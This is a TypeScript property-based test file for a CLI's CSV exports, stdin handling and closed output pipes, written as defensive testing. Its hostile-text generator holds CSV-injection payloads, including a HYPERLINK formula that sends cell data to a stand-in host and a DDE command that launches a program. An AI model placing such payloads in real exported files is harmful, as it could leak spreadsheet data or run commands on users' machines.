import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import fs from 'node:fs';
import path from 'node:path';
import { reclaimOk, runReclaim, runReclaimClosedEarly, runReclaimFromWriter, runReclaimLateInput, type CliResult } from '../helpers/cli';
import { cloneDataDir, type Fixture } from './lib/fixture';
import type { Tally } from './lib/tally';

/** What a spreadsheet runs as a formula (OWASP CSV Injection); a plain negative number is a value. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-\d+(\.\d+)?(e[+-]?\d+)?$/i;
const formulaCells = (csv: string): string[] =>
  (parseCsv(csv, { relax_column_count: true }) as string[][]).flat().filter((v) => FORMULA_START.test(v) && !NUMBER.test(v));

/** Hostile cell text: a formula start (or a separator then one), then anything. */
const hostileText = fc
  .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', 'x;=', 'x,=', 'x\r=', 'x\n+'), fc.string({ maxLength: 20 }), fc.constantFrom('HYPERLINK("http://evil.example/?"&A1,"Click")', "cmd|' /C calc'!A0", 'SUM(1+1)', '1+1', '2'))
  .map(([lead, mid, tail]) => `${lead}${mid.replace(/[\r\n"]/g, '')}${tail}`);
const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;
const problem = (what: string, r: CliResult) => (r.code === 0 && r.err.trim() === '' ? null : `${what}: exit ${r.code}${r.signal ? ` (${r.signal})` : ''}, stderr ${JSON.stringify(r.err.trim().slice(0, 200))}`);

/**
 * The `reclaim` CLI as scripts use it (issue #18 items 2, 3, 5, 9), each CLI run a child process:
 * - exports: hostile text imported as attributes (late, through a pipe) must come out of
 *   `customers --all --format csv`, `run plan --out` and `audit --out` with no cell a spreadsheet
 *   would run, and the --out files 0600;
 * - stdin: every `-` option with its input written late (after the CLI set up its stdin, then a
 *   random pause), or 1.2 MB through `cat |`;
 * - closed readers: a command's output pipe closed after a random number of bytes ends it quietly.
 */
export async function cliTrials(tally: Tally, fx: Fixture, runs: number): Promise<void> {
  const dir = cloneDataDir(fx.dataDir);
  const ok = (args: string[], input = '') => reclaimOk(dir, args, input);
  const ids = fx.customerIds;
  const rounds = Math.max(3, Math.round(runs / 10));
  try {
    for (const [i, texts] of fc.sample(fc.array(hostileText, { minLength: 3, maxLength: 8 }), rounds).entries()) {
      await tally.trial(`CLI CSV export #${i}`, async () => {
        const problems: string[] = [];
        const key = `h${i}`;
        const csv = [`id,${key},${key}_n`, ...texts.map((t, j) => `${ids[j % ids.length]},${csvCell(t)},${-1.5 * (j + 1)}`)].join('\n');
        const imp = await runReclaimLateInput(dir, ['attributes', 'import', '-'], csv, 100 + ((i * 97) % 400));
        const p = problem('attributes import -', imp);
        if (p) return p;
        const all = await ok(['customers', '--all', '--format', 'csv']);
        problems.push(...formulaCells(all).slice(0, 3).map((c) => `customers CSV cell starts a formula: ${JSON.stringify(c)}`));
        const rows = parseCsv(all, { columns: true }) as Record<string, string>[];
        for (const [j, t] of texts.entries()) {
          const row = rows.find((r) => r.customer_id === ids[j % ids.length]);
          // The last import of a customer wins; check the cells of customers written once.
          const got = row?.[`attrs.${key}`];
          // The import trims surrounding white space; a guarded cell is the text behind one quote.
          if (texts.length <= ids.length && row && ![t, `'${t}`, t.trim(), `'${t.trim()}`].includes(got ?? '')) problems.push(`text changed: ${JSON.stringify(t)} → ${JSON.stringify(got)}`);
          if (row && !NUMBER.test(row[`attrs.${key}_n`] ?? '')) problems.push(`number column not numeric: ${JSON.stringify(row[`attrs.${key}_n`])}`);
        }
        const plan = path.join(dir, `plan-${i}.csv`);
        const audit = path.join(dir, `audit-${i}.csv`);
        await ok(['run', 'plan', '--out', plan]);
        await ok(['audit', '--out', audit]);
        for (const f of [plan, audit]) {
          problems.push(...formulaCells(fs.readFileSync(f, 'utf8')).slice(0, 3).map((c) => `${path.basename(f)} cell starts a formula: ${JSON.stringify(c)}`));
          const mode = fs.statSync(f).mode & 0o777;
          if (mode !== 0o600) problems.push(`${path.basename(f)} is ${mode.toString(8)}, not 600`);
        }
        return problems;
      });
    }

    const rule = (n: number) => ({ combinator: 'and', rules: [{ field: 'customer_id', operator: 'in', value: ids.slice(0, n) }] });
    const strategy = JSON.parse(await ok(['--json', 'strategies', 'show', 'default'])) as Record<string, unknown>;
    const stdinCases: { name: string; args: string[]; input: () => string; check?: (r: CliResult) => string | null }[] = [
      { name: 'connect --key -', args: ['connect', '--key', '-', '--api-base', fx.sim.url], input: () => `${fx.key}\n` },
      { name: 'smtp set --pass -', args: ['smtp', 'set', '--host', '127.0.0.1', '--port', '2525', '--tls', 'none', '--user', 'u', '--pass', '-', '--from', 'ops@example.com'], input: () => 'secret\n' },
      { name: 'evaluate --rule -', args: ['--json', 'evaluate', '--rule', '-'], input: () => JSON.stringify(rule(4)), check: (r) => ((JSON.parse(r.out) as { count: number }).count === 4 ? null : `count ${r.out.slice(0, 80)}`) },
      { name: 'segments create --rule -', args: ['segments', 'create', 'Piped', '--rule', '-'], input: () => JSON.stringify(rule(3)) },
      { name: 'attributes import -', args: ['attributes', 'import', '-'], input: () => ['id,piped', ...ids.slice(0, 5).map((id, j) => `${id},${j}`)].join('\n') },
      { name: 'strategies set --file -', args: ['strategies', 'set', 'default', '--file', '-'], input: () => JSON.stringify({ ...strategy, description: 'piped' }) },
    ];
    const stdinRounds = Math.max(1, Math.round(runs / 40));
    for (let round = 0; round < stdinRounds; round++) {
      for (const [k, c] of stdinCases.entries()) {
        const pause = fc.sample(fc.integer({ min: 50, max: 800 }), { numRuns: 1, seed: round * 31 + k })[0]!;
        await tally.trial(`CLI ${c.name} written ${pause} ms late`, async () => {
          const r = await runReclaimLateInput(dir, c.args, c.input(), pause);
          return problem(c.name, r) ?? c.check?.(r) ?? null;
        });
      }
    }
    const fake = (c: number) => Array.from({ length: 500 }, (_, j) => `cus_${c.toString(36)}x${j.toString(36).padStart(4, '0')}${'0'.repeat(40)}`);
    const big = JSON.stringify({ combinator: 'or', rules: [rule(6).rules[0], ...Array.from({ length: 49 }, (_, c) => ({ field: 'customer_id', operator: 'in', value: fake(c) }))] }, null, 1);
    for (const args of [['--json', 'evaluate', '--rule', '-'], ['segments', 'create', 'Piped big', '--rule', '-']]) {
      await tally.trial(`CLI ${args.join(' ')} with ${(big.length / 1e6).toFixed(1)} MB through cat |`, async () => {
        const r = await runReclaimFromWriter(dir, args, big, 0);
        return problem(args.join(' '), r) ?? (args[1] === 'evaluate' && (JSON.parse(r.out) as { count: number }).count !== 6 ? `count ${r.out.slice(0, 80)}` : null);
      });
    }

    const readers = [['--json', 'customers', '--limit', '500'], ['customers', '--limit', '500'], ['--json', 'customers', '--all'], ['customers', '--all', '--format', 'csv'], ['--json', 'fields'], ['--json', 'audit', '--limit', '500'], ['--json', 'run', 'plan'], ['segments', 'export']];
    for (const [k, args] of readers.entries()) {
      // Closed before the first byte (`| true`), and after 1–4,096 bytes (`| head -c N`).
      for (const bytes of [0, fc.sample(fc.integer({ min: 1, max: 4096 }), { numRuns: 1, seed: k })[0]!]) {
        const shell = bytes === 0 ? '| true' : `| head -c ${bytes}`;
        await tally.trial(`CLI ${args.join(' ')} ${shell}`, async () => problem(`${args.join(' ')} ${shell}`, await runReclaimClosedEarly(dir, args, bytes)));
      }
    }
    const bad = await runReclaim(dir, ['audit', '--out', path.join(dir, 'm.csv'), '--mode', '999']);
    tally.record('CLI --mode 999 refused in one line', bad.code === 2 && bad.err.trim().split('\n').length === 1 ? null : `exit ${bad.code}: ${bad.err.slice(0, 200)}`);
    tally.note(`CLI: ${rounds} export rounds (hostile attribute text → customers CSV, plan and audit --out: no formula cell, files 0600), ${stdinRounds * stdinCases.length} late stdin inputs and 2 of ${(big.length / 1e6).toFixed(1)} MB, ${readers.length * 2} outputs closed early (before the first byte and after 1–4,096 bytes)`);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}
